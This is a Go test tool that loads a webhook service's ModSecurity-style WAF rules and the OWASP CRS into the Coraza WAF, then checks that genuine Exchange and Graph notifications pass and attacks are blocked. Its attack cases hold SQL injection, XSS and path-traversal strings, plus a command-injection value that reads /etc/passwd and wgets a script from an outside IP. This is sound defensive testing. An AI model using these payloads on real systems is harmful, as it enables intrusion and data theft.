// coraza-check: loads the rooms-sync WAF rules into a real Coraza WAF (the WAF of
// Envoy-based Gateway API gateways, the HTTPRoute path of the chart) together with the
// OWASP CRS, and runs the request-content cases of .dev/waf-test.sh through it.
//
// What is loaded, in the order the nginx test loads it (.dev/waf.sh, and the chart
// README: "load it into the gateway's Coraza filter before the CRS"):
//  1. charts/rooms-sync/files/waf/rooms-sync-waf.conf: our ONE rules file, unchanged
//     and first. It carries the whole engine setup the nginx side has (SecRuleEngine On,
//     SecRequestBodyAccess On, the body limits, the CRS tuning and the body processor
//     per callback: ctl:requestBodyProcessor=XML on the EWS paths, JSON on Graph's);
//     ingress-nginx loads no base modsecurity.conf next to a snippet, so there is
//     nothing else to mirror;
//  2. the CRS setup: SecDefaultAction phase:1/phase:2 "log,auditlog,pass" and
//     tx.crs_setup_version, nothing else (.dev/waf/crs-setup.conf on the nginx side;
//     CRS 4's own @crs-setup.conf.example here, which is exactly that for CRS 4);
//  3. the CRS rule files, REQUEST-*.conf then RESPONSE-*.conf.
//
// (.dev/waf/local-logging.conf, the nginx side's temp and audit log paths, has no
// effect on decisions and is not mirrored.)
//
// Which CRS: by default CRS 4 as embedded by github.com/corazawaf/coraza-coreruleset
// (version pinned in go.mod), NOT Debian's modsecurity-crs 3.3.4 that the nginx test
// uses: Coraza v3 does not load CRS 3.3.4. `-crs /usr/share/modsecurity-crs/rules`
// loads a CRS directory instead and, when Coraza rejects it, names the file and the
// directives. For CRS 3.3.4 (coraza v3.8.1) these are, all in the CRS, none in ours:
//   - the persistent IP collection (IP:REPUT_BLOCK_FLAG, IP:DOS_COUNTER, ...,
//     setvar:ip.*, expirevar:ip.*): Coraza has no persistent collections ("attempting
//     to select a value inside a non-selectable collection: IP", "invalid arguments,
//     expected collection TX") — 910000, 910100, 910120, 910150-910190, 912120-912171,
//     913100-913120, 949100;
//   - PCRE-only regular expressions, Coraza uses Go's RE2: look-behind (?<! in 920120,
//     look-ahead (?! and back-reference \1 in 942130, look-ahead (?! in 953120,
//     possessive quantifiers *+ ++ in 920600 and 942260.
//
// Out of scope here (in the nginx test they are answered by nginx itself or by the
// ingress-nginx configuration, not by ModSecurity; on a gateway the HTTPRoute matches,
// the gateway's body limit and its path normalization answer them):
//   - wrong methods (405: the Ingress/HTTPRoute only route POST to the webhook and GET
//     to /healthz),
//   - the 2 MiB body (413: proxy-body-size / the gateway's limit),
//   - the form content type (415 in the nginx test),
//   - /metrics (404: not routed),
//   - ".." in the path itself (nginx and Envoy normalize the path before any WAF).
//
// Each case goes through the request phases the way a gateway's filter drives Coraza:
// ProcessConnection, ProcessURI, AddRequestHeader (the headers curl sends in the nginx
// test), ProcessRequestHeaders, WriteRequestBody, ProcessRequestBody; then the
// interruption is read. Genuine pushes, Graph handshakes and Graph notifications must
// not be interrupted; attacks must be, with the status the nginx test expects (403; 400
// for malformed XML or JSON and an overlong validationToken; 415 for a Graph
// notification that is not application/json).
//
// Known gaps: with coraza v3.8.1, our rules 10020 (DTD) and 10021 (processing
// instructions) never match, because they read REQUEST_BODY and Coraza leaves it empty
// once the XML body processor ran (our rule 10014 selects it; corazawaf/coraza#1685,
// open); rule 10022 never sees a truncated document, because Coraza's XML processor is
// lenient (non-strict, an unexpected EOF is not an error) and sets no REQBODY_ERROR.
// ModSecurity v3 stops those six cases with the same file. check.sh passes them with
// -known-gaps: each is printed as a GAP line and named in the last line, and a listed
// case that IS stopped fails, so the list cannot go stale.
// CRS 4 reads tx.blocking_paranoia_level, not tx.paranoia_level (the CRS 3 name our
// file sets): both default to 1, so the effective level is the same today.
//
// Usage: coraza-check [-root DIR] [-crs DIR] [-known-gaps CASE,...]
// (run from the repository root). Prints one line per case and ends with
// "coraza: N passed, M failed"; exits 1 on a failure, 2 when the WAF does not load.
package main

import (
	"flag"
	"fmt"
	"io/fs"
	"os"
	"path"
	"path/filepath"
	"regexp"
	"runtime/debug"
	"sort"
	"strconv"
	"strings"

	coreruleset "github.com/corazawaf/coraza-coreruleset/v4"
	"github.com/corazawaf/coraza/v3"
	"github.com/corazawaf/coraza/v3/experimental/plugins/plugintypes"
	"github.com/corazawaf/coraza/v3/types"
)

const xmlType = "text/xml; charset=utf-8"

type testCase struct {
	name   string
	method string
	uri    string
	ctype  string
	body   []byte
	// want: 0 = must not be interrupted (genuine); otherwise the expected status.
	want int
}

// source: one piece of configuration, loaded in order.
type source struct {
	name string // for messages
	file string // loaded with WithDirectivesFromFile (relative data files resolve)
	text string // or loaded as a string
}

func main() {
	root := flag.String("root", ".", "repository root")
	crsDir := flag.String("crs", "", "load the CRS rule files of this directory (with .dev/waf/crs-setup.conf) instead of the CRS 4 embedded by coraza-coreruleset")
	knownGaps := flag.String("known-gaps", "", "comma-separated attack cases Coraza is known not to stop: reported as GAP, not counted as failures (a listed case that IS stopped fails)")
	flag.Parse()

	rulesFile := filepath.Join(*root, "charts/rooms-sync/files/waf/rooms-sync-waf.conf")
	ours, err := os.ReadFile(rulesFile)
	if err != nil {
		fatal(err)
	}
	// Read and loaded as a string: it has no Include or data file, and the embedded
	// CRS needs the root file system to be coreruleset.FS.
	sources := []source{{name: rel(*root, rulesFile), text: string(ours)}}
	var rootFS fs.FS
	var crsName string
	if *crsDir == "" {
		rootFS = coreruleset.FS
		crsName = "CRS " + crsVersionOf(rootFS, "@owasp_crs/REQUEST-901-INITIALIZATION.conf") + " (coraza-coreruleset " + moduleVersion("github.com/corazawaf/coraza-coreruleset/v4") + ", embedded)"
		sources = append(sources, source{name: "@crs-setup.conf.example", file: "@crs-setup.conf.example"})
		for _, p := range []string{"@owasp_crs/REQUEST-*.conf", "@owasp_crs/RESPONSE-*.conf"} {
			m, err := fs.Glob(rootFS, p)
			if err != nil {
				fatal(err)
			}
			sort.Strings(m)
			for _, f := range m {
				sources = append(sources, source{name: f, file: f})
			}
		}
	} else {
		setupFile := filepath.Join(*root, ".dev/waf/crs-setup.conf")
		files, err := crsRuleFiles(*crsDir)
		if err != nil {
			fatal(err)
		}
		crsName = "CRS " + crsVersionOf(osFS{}, files[0]) + " (" + *crsDir + ")"
		sources = append(sources, source{name: rel(*root, setupFile), file: setupFile})
		for _, f := range files {
			sources = append(sources, source{name: f, file: f})
		}
	}

	waf, err := load(rootFS, sources)
	if err != nil {
		fmt.Printf("coraza %s did not load %s + %s: %v\n", moduleVersion("github.com/corazawaf/coraza/v3"), rel(*root, rulesFile), crsName, err)
		diagnose(rootFS, sources)
		fmt.Println("coraza: 0 passed, 1 failed")
		os.Exit(2)
	}
	fmt.Printf("coraza %s: %s + %s, %d files\n", moduleVersion("github.com/corazawaf/coraza/v3"), rel(*root, rulesFile), crsName, len(sources))

	cases, err := buildCases(*root)
	if err != nil {
		fatal(err)
	}

	gaps := map[string]bool{}
	for _, g := range strings.Split(*knownGaps, ",") {
		if g = strings.TrimSpace(g); g != "" {
			gaps[g] = true
		}
	}

	for g := range gaps {
		found := false
		for _, c := range cases {
			found = found || (c.name == g && c.want != 0)
		}
		if !found {
			fatal(fmt.Errorf("-known-gaps: %q is not an attack case", g))
		}
	}

	passed, failed, gapped := 0, 0, 0
	genuineTotal, genuineOK, attackTotal, attackOK := 0, 0, 0, 0
	for _, c := range cases {
		it, matched, err := run(waf, c)
		var ok bool
		var detail string
		if c.want == 0 {
			genuineTotal++
		} else {
			attackTotal++
		}
		switch {
		case err != nil:
			detail = "error: " + err.Error()
		case c.want == 0 && it == nil:
			ok, detail = true, "not interrupted"
			genuineOK++
		case c.want == 0:
			detail = fmt.Sprintf("%d by rule %d (genuine push blocked; rules matched: %s)", it.Status, it.RuleID, matched)
		case it != nil && it.Status == c.want:
			ok, detail = true, fmt.Sprintf("%d by rule %d", it.Status, it.RuleID)
			attackOK++
		case it != nil:
			detail = fmt.Sprintf("%d by rule %d (expected %d; rules matched: %s)", it.Status, it.RuleID, c.want, matched)
		default:
			detail = fmt.Sprintf("not interrupted (expected %d; rules matched: %s)", c.want, matched)
		}
		label := "pass   "
		if c.want != 0 {
			label = "stopped"
		}
		switch {
		case gaps[c.name] && ok:
			// A listed gap that is closed now: the list must follow, or it hides the next regression.
			failed++
			label, detail = "FAIL   ", detail+" (listed as a known gap: take it off -known-gaps)"
		case gaps[c.name] && err == nil && it != nil:
			failed++
			label, detail = "FAIL   ", detail+" (listed as a known gap, now answered otherwise)"
		case gaps[c.name] && err == nil && it == nil:
			gapped++
			label, detail = "GAP    ", "not stopped by Coraza, known gap: "+gapReason(c.name)
		case ok:
			passed++
		default:
			failed++
			label = "FAIL   "
		}
		fmt.Printf("%s %-44s %s\n", label, c.name, detail)
	}
	// The tuning the CRS ran with, read back from a transaction: CRS 3 reads
	// tx.paranoia_level (what our file sets), CRS 4 tx.blocking_paranoia_level.
	fmt.Printf("WAF (Coraza %s, %s, paranoia level %s, anomaly threshold %s): genuine passed %d/%d, attacks stopped %d/%d\n",
		moduleVersion("github.com/corazawaf/coraza/v3"), crsName,
		effectiveTX(waf, "blocking_paranoia_level", "paranoia_level"), effectiveTX(waf, "inbound_anomaly_score_threshold"),
		genuineOK, genuineTotal, attackOK, attackTotal)
	// The last line, and what .dev/k8s-check.sh shows: known gaps stay visible there.
	gapNote := ""
	if gapped > 0 {
		gapNote = fmt.Sprintf(", %d known gaps (GAP lines: attacks Coraza does not stop)", gapped)
	}
	fmt.Printf("coraza: %d passed, %d failed%s\n", passed, failed, gapNote)
	if failed > 0 {
		os.Exit(1)
	}
}

// gapReason: why Coraza (v3.8.1) does not stop a case that ModSecurity v3 stops with
// the same rules file.
func gapReason(name string) string {
	switch name {
	case "xxe-external-entity", "billion-laughs", "xxe-in-legacy-endpoint":
		return "rule 10020 (DTD) reads REQUEST_BODY, which Coraza leaves empty once the XML body processor ran (corazawaf/coraza#1685)"
	case "php-processing-instruction", "stylesheet-processing-instruction":
		return "rule 10021 (processing instruction) reads REQUEST_BODY, which Coraza leaves empty once the XML body processor ran (corazawaf/coraza#1685)"
	case "malformed-xml":
		return "rule 10022 reads REQBODY_ERROR; Coraza's XML body processor is lenient (non-strict, ignores an unexpected EOF) and reports no error for a truncated document"
	}
	return "listed with -known-gaps"
}

// effectiveTX: the first of the tx variables set after phase 1 of a GET /healthz.
func effectiveTX(waf coraza.WAF, names ...string) string {
	tx := waf.NewTransaction()
	defer tx.Close()
	tx.ProcessURI("/healthz", "GET", "HTTP/1.1")
	tx.AddRequestHeader("Host", "waf.local")
	tx.ProcessRequestHeaders()
	if st, ok := tx.(plugintypes.TransactionState); ok {
		for _, n := range names {
			if v := st.Variables().TX().Get(n); len(v) > 0 {
				return v[0]
			}
		}
	}
	return "?"
}

// run sends one case through the request phases (1 and 2) the way a gateway's filter
// does, and returns the interruption, if any, and the ids of the rules that matched.
func run(waf coraza.WAF, c testCase) (*types.Interruption, string, error) {
	tx := waf.NewTransaction()
	defer func() {
		tx.ProcessLogging()
		_ = tx.Close()
	}()
	matched := func() string {
		var ids []string
		for _, m := range tx.MatchedRules() {
			if m.Message() == "" { // the CRS's bookkeeping (skip, init) rules
				continue
			}
			ids = append(ids, strconv.Itoa(m.Rule().ID()))
		}
		if len(ids) == 0 {
			return "none"
		}
		return strings.Join(ids, ",")
	}

	tx.ProcessConnection("127.0.0.1", 40000, "127.0.0.1", 8443)
	tx.ProcessURI(c.uri, c.method, "HTTP/1.1")
	// The headers curl sends in .dev/waf-test.sh.
	tx.AddRequestHeader("Host", "waf.local")
	tx.AddRequestHeader("User-Agent", "ExchangeServicesClient/15.20.8000.000")
	tx.AddRequestHeader("Accept", "*/*")
	tx.AddRequestHeader("X-Waf-Test-Case", c.name)
	if c.ctype != "" {
		tx.AddRequestHeader("Content-Type", c.ctype)
	}
	if c.body != nil {
		tx.AddRequestHeader("Content-Length", strconv.Itoa(len(c.body)))
	}
	if it := tx.ProcessRequestHeaders(); it != nil {
		return it, matched(), nil
	}
	if c.body != nil {
		it, _, err := tx.WriteRequestBody(c.body)
		if err != nil {
			return nil, matched(), err
		}
		if it != nil {
			return it, matched(), nil
		}
	}
	it, err := tx.ProcessRequestBody()
	return it, matched(), err
}

// buildCases: the genuine pushes and the request-content attacks of .dev/waf-test.sh,
// built the same way.
func buildCases(root string) ([]testCase, error) {
	fixtures := filepath.Join(root, "libs/ews/src/fixtures")
	corpus := filepath.Join(root, ".dev/waf/corpus")
	var cases []testCase

	// --- genuine pushes: the ews fixtures and one per event kind
	var genuine []string
	for _, pattern := range []string{filepath.Join(fixtures, "*.xml"), filepath.Join(corpus, "genuine/*.xml")} {
		m, err := filepath.Glob(pattern)
		if err != nil {
			return nil, err
		}
		sort.Strings(m)
		genuine = append(genuine, m...)
	}
	if len(genuine) == 0 {
		return nil, fmt.Errorf("no genuine pushes under %s and %s", fixtures, corpus)
	}
	for _, f := range genuine {
		b, err := os.ReadFile(f)
		if err != nil {
			return nil, err
		}
		cases = append(cases, testCase{"genuine/" + strings.TrimSuffix(filepath.Base(f), ".xml"), "POST", "/api/webhooks/exchange", xmlType, b, 0})
	}
	heartbeat, err := os.ReadFile(filepath.Join(fixtures, "status-heartbeat.xml"))
	if err != nil {
		return nil, err
	}
	cases = append(cases,
		testCase{"genuine/legacy-endpoint-heartbeat", "POST", "/WebServices/SyncNotification.svc?default", xmlType, heartbeat, 0},
		testCase{"genuine/healthz", "GET", "/healthz", "", nil, 0},
	)

	// --- attacks: a genuine push with one value replaced (mk in waf-test.sh)
	base, err := os.ReadFile(filepath.Join(corpus, "genuine/02-created-event.xml"))
	if err != nil {
		return nil, err
	}
	mk := func(re, repl string) ([]byte, error) {
		rx := regexp.MustCompile(re)
		if !rx.Match(base) {
			return nil, fmt.Errorf("02-created-event.xml has no match for %q", re)
		}
		return rx.ReplaceAllLiteral(base, []byte(repl)), nil
	}
	sub := func(value string) (string, string) {
		return `<t:SubscriptionId>[^<]*</t:SubscriptionId>`, "<t:SubscriptionId>" + value + "</t:SubscriptionId>"
	}
	type edit struct{ name, re, repl string }
	var edits []edit
	add := func(name string, re, repl string) { edits = append(edits, edit{name, re, repl}) }
	re, repl := sub(`1' UNION SELECT password FROM users WHERE '1'='1`)
	add("sqli-in-text", re, repl)
	add("sqli-in-attribute", `<t:ItemId Id="[^"]*"`, `<t:ItemId Id="x' OR 1=1; DROP TABLE reservations; --"`)
	re, repl = sub(`&lt;script&gt;alert(document.cookie)&lt;/script&gt;`)
	add("xss-in-text", re, repl)
	add("xss-in-attribute", `ChangeKey="DwAAA[^"]*"`, `ChangeKey="&quot;&gt;&lt;svg onload=alert(1)&gt;"`)
	re, repl = sub(`x; cat /etc/passwd; wget http://203.0.113.7/x.sh`)
	add("command-injection-in-text", re, repl)
	for _, e := range edits {
		b, err := mk(e.re, e.repl)
		if err != nil {
			return nil, fmt.Errorf("%s: %w", e.name, err)
		}
		cases = append(cases, testCase{e.name, "POST", "/api/webhooks/exchange", xmlType, b, 403})
	}

	hostile := func(name string) ([]byte, error) { return os.ReadFile(filepath.Join(fixtures, "hostile", name+".xml")) }
	for _, h := range []string{"xxe-external-entity", "billion-laughs", "php-processing-instruction", "stylesheet-processing-instruction"} {
		b, err := hostile(h)
		if err != nil {
			return nil, err
		}
		cases = append(cases, testCase{h, "POST", "/api/webhooks/exchange", xmlType, b, 403})
	}
	xxe, err := hostile("xxe-external-entity")
	if err != nil {
		return nil, err
	}
	cases = append(cases, testCase{"xxe-in-legacy-endpoint", "POST", "/WebServices/SyncNotification.svc?default", xmlType, xxe, 403})
	truncated, err := hostile("truncated")
	if err != nil {
		return nil, err
	}
	cases = append(cases, testCase{"malformed-xml", "POST", "/api/webhooks/exchange", xmlType, truncated, 400})
	beat, err := os.ReadFile(filepath.Join(corpus, "genuine/01-status-heartbeat.xml"))
	if err != nil {
		return nil, err
	}
	cases = append(cases,
		testCase{"path-traversal-in-query", "POST", "/api/webhooks/exchange?file=../../../../etc/passwd", xmlType, beat, 403},
		testCase{"path-traversal-healthz-query", "GET", "/healthz?x=..%2f..%2f..%2f..%2fetc%2fpasswd", "", nil, 403},
	)
	graph, err := graphCases(corpus)
	if err != nil {
		return nil, err
	}
	return append(cases, graph...), nil
}

// graphCases: the Microsoft Graph cases of .dev/waf-test.sh that our rules or the CRS answer
// (not the methods and the 2 MiB body, out of scope as above): Graph's validation handshake as
// Graph sends it (text/plain, an empty body), its change and lifecycle notifications, and the
// attacks on them.
func graphCases(corpus string) ([]testCase, error) {
	const (
		jsonType  = "application/json; charset=utf-8"
		plainType = "text/plain; charset=utf-8"
		change    = "/api/webhooks/graph"
		lifecycle = "/api/webhooks/graph/lifecycle"
	)
	dir := filepath.Join(corpus, "graph")
	read := func(name string) ([]byte, error) { return os.ReadFile(filepath.Join(dir, name+".json")) }
	token := "?validationToken=Validation%3a+Testing+client+application+reachability+for+subscription+Request-Id%3a+" +
		"7f9c2ba4-e88f-4e5a-9d3b-2c1d0e8f6a57"
	cases := []testCase{
		{"graph/validation-handshake", "POST", change + token, plainType, []byte{}, 0},
		{"graph/validation-handshake-lifecycle", "POST", lifecycle + token, plainType, []byte{}, 0},
	}
	files, err := filepath.Glob(filepath.Join(dir, "*.json"))
	if err != nil {
		return nil, err
	}
	sort.Strings(files)
	if len(files) == 0 {
		return nil, fmt.Errorf("no Graph notifications under %s", dir)
	}
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			return nil, err
		}
		name := strings.TrimSuffix(filepath.Base(f), ".json")
		path := change
		if strings.HasPrefix(name, "lifecycle-") {
			path = lifecycle
		}
		cases = append(cases, testCase{"graph/" + name, "POST", path, jsonType, b, 0})
	}

	// a genuine notification with one value replaced (mkjson in waf-test.sh)
	type edit struct{ name, file, path, re, repl string }
	edits := []edit{
		{"graph-sqli-in-json-string", "change-created", change, `"id": "[^"]*"`, `"id": "x' OR 1=1; DROP TABLE reservations; --"`},
		{"graph-sqli-in-lifecycle-event", "lifecycle-missed", lifecycle, `"missed"`, `"missed' UNION SELECT password FROM users WHERE '1'='1"`},
		{"graph-xss-in-json-string", "change-created", change, `"clientState": "[^"]*"`, `"clientState": "<script>alert(document.cookie)</script>"`},
		{"graph-command-injection-in-json", "change-created", change, `"resource": "[^"]*"`, `"resource": "x; cat /etc/passwd; wget http://203.0.113.7/x.sh"`},
	}
	for _, e := range edits {
		b, err := read(e.file)
		if err != nil {
			return nil, err
		}
		rx := regexp.MustCompile(e.re)
		if !rx.Match(b) {
			return nil, fmt.Errorf("%s: %s.json has no match for %q", e.name, e.file, e.re)
		}
		cases = append(cases, testCase{e.name, "POST", e.path, jsonType, rx.ReplaceAllLiteral(b, []byte(e.repl)), 403})
	}
	created, err := read("change-created")
	if err != nil {
		return nil, err
	}
	batch, err := read("change-batch")
	if err != nil {
		return nil, err
	}
	truncated := batch[:300]
	cases = append(cases,
		testCase{"graph-xss-in-validation-token", "POST", change + "?validationToken=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", plainType, []byte{}, 403},
		testCase{"graph-xss-in-validation-token-lifecycle", "POST", lifecycle + "?validationToken=%22%3E%3Csvg%20onload%3Dalert(1)%3E", plainType, []byte{}, 403},
		testCase{"graph-validation-token-too-long", "POST", change + "?validationToken=Validation%3a+Testing+" + strings.Repeat("A", 1100), plainType, []byte{}, 400},
		testCase{"graph-notification-as-text-plain", "POST", change, plainType, created, 415},
		testCase{"graph-notification-as-xml", "POST", lifecycle, xmlType, created, 415},
		testCase{"graph-lookalike-token-name", "POST", change + "?ValidationToken=x", "text/plain", created, 415},
		testCase{"graph-malformed-json", "POST", change, jsonType, truncated, 400},
		testCase{"graph-malformed-json-lifecycle", "POST", lifecycle, jsonType, truncated, 400},
	)
	return cases, nil
}

// crsRuleFiles: REQUEST-*.conf then RESPONSE-*.conf, as .dev/waf.sh includes them.
func crsRuleFiles(dir string) ([]string, error) {
	var files []string
	for _, p := range []string{"REQUEST-*.conf", "RESPONSE-*.conf"} {
		m, err := filepath.Glob(filepath.Join(dir, p))
		if err != nil {
			return nil, err
		}
		sort.Strings(m)
		files = append(files, m...)
	}
	if len(files) == 0 {
		return nil, fmt.Errorf("no CRS rule files in %s: run .dev/waf.sh install (Debian's modsecurity-crs)", dir)
	}
	return files, nil
}

var verRx = regexp.MustCompile(`ver:'OWASP_CRS/([0-9.]+)'`)

func crsVersionOf(fsys fs.FS, file string) string {
	b, err := fs.ReadFile(fsys, file)
	if err != nil {
		return "?"
	}
	if m := verRx.FindSubmatch(b); m != nil {
		return string(m[1])
	}
	return "?"
}

// osFS: the host file system for absolute paths (what Coraza reads without a root FS).
type osFS struct{}

func (osFS) Open(name string) (fs.File, error) { return os.Open(name) }

// moduleVersion: the version of a module this binary was built with (go.mod pins it).
func moduleVersion(path string) string {
	if bi, ok := debug.ReadBuildInfo(); ok {
		for _, d := range bi.Deps {
			if d.Path == path {
				return d.Version
			}
		}
	}
	return "(unknown)"
}

func config(rootFS fs.FS, sources []source) coraza.WAFConfig {
	cfg := coraza.NewWAFConfig()
	if rootFS != nil {
		cfg = cfg.WithRootFS(rootFS)
	}
	for _, s := range sources {
		if s.file != "" {
			cfg = cfg.WithDirectivesFromFile(s.file)
		} else {
			cfg = cfg.WithDirectives(s.text)
		}
	}
	return cfg
}

func load(rootFS fs.FS, sources []source) (coraza.WAF, error) {
	return coraza.NewWAF(config(rootFS, sources))
}

// diagnose: Coraza's error names neither the file nor the line. Find the first source
// that does not load after the ones before it, then the directives of that source that
// Coraza rejects on their own (a SecRule with its chain is one directive), and go on
// with the next sources without the rejected one.
func diagnose(rootFS fs.FS, sources []source) {
	var good []source
	for _, s := range sources {
		if _, err := load(rootFS, append(append([]source{}, good...), s)); err == nil {
			good = append(good, s)
			continue
		}
		var text []byte
		var err error
		if s.file != "" {
			fsys := rootFS
			if fsys == nil {
				fsys = osFS{}
			}
			text, err = fs.ReadFile(fsys, s.file)
			if err != nil {
				fmt.Printf("  %s: %v\n", s.name, err)
				continue
			}
		} else {
			text = []byte(s.text)
		}
		// Loaded alone, with the file's directory as root: its data files still resolve.
		dirFS := fs.FS(os.DirFS("."))
		if s.file != "" {
			if rootFS != nil {
				if sub, err := fs.Sub(rootFS, path.Dir(s.file)); err == nil {
					dirFS = sub
				}
			} else {
				dirFS = os.DirFS(filepath.Dir(s.file))
			}
		}
		fmt.Printf("  rejected in %s:\n", s.name)
		for _, d := range directives(string(text)) {
			if _, err := coraza.NewWAF(coraza.NewWAFConfig().WithRootFS(dirFS).WithDirectives(d.text)); err != nil {
				msg := err.Error()
				id := idRx.FindStringSubmatch(d.text)
				rule := ""
				if id != nil {
					rule = " id:" + id[1]
				}
				fmt.Printf("    line %d%s: %s\n", d.line, rule, strings.TrimPrefix(msg, "invalid WAF config from string: "))
			}
		}
	}
}

var idRx = regexp.MustCompile(`id:'?([0-9]+)`)

type directive struct {
	line int
	text string
}

// directives splits SecLang text into directives: continuation lines joined, a
// SecRule with "chain" kept together with the rule(s) it chains to.
func directives(text string) []directive {
	var out []directive
	var cur []string
	start, pendingChain := 0, false
	lines := strings.Split(text, "\n")
	for i, l := range lines {
		t := strings.TrimSpace(l)
		if len(cur) == 0 && (t == "" || strings.HasPrefix(t, "#")) {
			continue
		}
		if len(cur) == 0 {
			start = i + 1
		}
		cur = append(cur, l)
		if strings.HasSuffix(t, "\\") {
			continue
		}
		// one directive ended; does it chain to the next one?
		last := cur
		for j := len(cur) - 1; j >= 0; j-- {
			if strings.HasPrefix(strings.TrimSpace(cur[j]), "Sec") {
				last = cur[j:]
				break
			}
		}
		pendingChain = chainRx.MatchString(strings.Join(last, "\n"))
		if pendingChain {
			continue
		}
		out = append(out, directive{start, strings.Join(cur, "\n")})
		cur = nil
	}
	if len(cur) > 0 {
		out = append(out, directive{start, strings.Join(cur, "\n")})
	}
	return out
}

var chainRx = regexp.MustCompile(`["',\s]chain\s*(?:\\\s*)?["',]`)

func rel(root, p string) string {
	if r, err := filepath.Rel(root, p); err == nil {
		return r
	}
	return p
}

func fatal(err error) {
	fmt.Fprintf(os.Stderr, "coraza: %v\n", err)
	os.Exit(2)
}
